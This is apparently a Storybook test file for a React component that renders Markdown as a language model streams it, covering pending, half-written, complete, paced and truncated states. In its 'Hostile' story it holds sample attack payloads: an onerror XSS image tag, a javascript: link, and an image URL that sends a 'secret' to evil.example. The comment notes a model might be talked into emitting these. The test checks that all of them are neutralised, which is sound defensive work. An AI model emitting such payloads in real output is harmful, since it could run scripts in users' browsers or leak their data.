// In: a scripted answer with a string that is Markdown. Out: StructuredMarkdown in each state such a text can be in.
// Knows nothing of how Markdown is read.

import type { Meta, StoryObj } from '@storybook/react-vite';
import { StructuredMarkdown } from 'fieldwise/markdown';
import type { StructuredMarkdownProps } from 'fieldwise/markdown';
import { paceText } from 'fieldwise/react';
import remarkGfm from 'remark-gfm';
import { expect, within } from 'storybook/test';
import { z } from 'zod';
import { fieldWith, runIs, textIs } from './support/play.js';
import { calmly, paceControls } from './support/script.js';
import type { Pace } from './support/script.js';
import { Bones } from './support/skeleton.js';
import { Stage } from './support/stage.js';

const Essay = z.object({ body: z.string() });
const BODY = `## Twice a day

The tide does **not** come in. The *coast* turns underneath, see [the almanac](https://almanac.example/tides).

- high water at nine
- low water at three

| harbour | range |
| ------- | ----- |
| Springs | 5.1 m |
| Neaps   | 2.3 m |

\`\`\`js
const range = high - low;
\`\`\`

> An hour late each time.
`;
const TEXT = JSON.stringify({ body: BODY });

interface Args extends StructuredMarkdownProps, Pace {
  readonly text: string;
}

const meta = {
  title: 'StructuredMarkdown',
  component: StructuredMarkdown,
  args: {
    ...calmly,
    delayMs: 10,
    path: 'body',
    text: TEXT,
    className: 'markdown',
    pending: <Bones lines={4} />,
    remarkPlugins: [remarkGfm],
  },
  parameters: {
    docs: {
      description: {
        component:
          'Markdown while a model writes it: what is half written is shown as what it is about to be, raw HTML stays text, links tell their target nothing, and images are not loaded.',
      },
    },
  },
  argTypes: {
    ...paceControls,
    path: { control: false },
    text: { control: false },
    pending: { control: false },
    missing: { control: false },
    stream: { control: false },
    pace: { control: false },
    components: { control: false },
    remarkPlugins: { control: false },
    rehypePlugins: { control: false },
    urlTransform: { control: false },
  },
  render: ({ text, delayMs, chunkSize, ending, pauseAfter, ...markdown }, { id }) => (
    <Stage id={id} schema={Essay} script={{ text, delayMs, chunkSize, ending, pauseAfter }}>
      <StructuredMarkdown {...markdown} />
    </Stage>
  ),
} satisfies Meta<Args>;

export default meta;
type Story = StoryObj<Args>;

/** Before its first byte, `pending` stands in. */
export const Pending: Story = {
  args: { pauseAfter: 0 },
  async play({ canvasElement }) {
    const body = await fieldWith(canvasElement, 'body', 'pending');
    await expect(body.querySelector('.bones')).toBeVisible();
  },
};

/** Cut inside a bold word: it is bold already, and no asterisk is seen. */
export const HalfWritten: Story = {
  args: { pauseAfter: TEXT.indexOf('ot** come') },
  async play({ canvasElement }) {
    const body = await fieldWith(canvasElement, 'body', 'streaming');
    await textIs(body, 'The tide does n');
    await expect(body.querySelector('strong')).toBeVisible();
    await expect(body).not.toHaveTextContent('*');
  },
};

/** A whole text: headings, lists, tables, code. */
export const Complete: Story = {
  async play({ canvasElement }) {
    const body = await fieldWith(canvasElement, 'body', 'complete');
    await expect(within(body).getByRole('table')).toBeVisible();
    await expect(within(body).getByRole('link')).toHaveAttribute(
      'rel',
      'noopener noreferrer nofollow',
    );
    await runIs(canvasElement, 'complete');
  },
};

const byWord = paceText('word');

/** At an even pace, however the text arrives. */
export const Paced: Story = {
  args: { pace: byWord, chunkSize: 60, delayMs: 200 },
  async play({ canvasElement }) {
    await textIs(await fieldWith(canvasElement, 'body', 'complete'), 'An hour late');
  },
};

/** What a model might be talked into: HTML, an address that runs a script, an image that tells on its reader. */
export const Hostile: Story = {
  args: {
    text: JSON.stringify({
      body: 'See <img src=x onerror="alert(1)"> and [this](javascript:alert(1)).\n\n![a cat](https://evil.example/?q=secret)',
    }),
  },
  async play({ canvasElement }) {
    const body = await fieldWith(canvasElement, 'body', 'complete');
    await expect(body.querySelector('img, a')).toBeNull();
    await expect(body).toHaveTextContent('a cat');
  },
};

/** Cut off by the model’s token limit: what arrived stays as it is. */
export const Truncated: Story = {
  args: { ending: 'truncated' },
  async play({ canvasElement }) {
    await runIs(canvasElement, 'error');
    await textIs(await fieldWith(canvasElement, 'body', 'incomplete'), 'high water');
  },
};
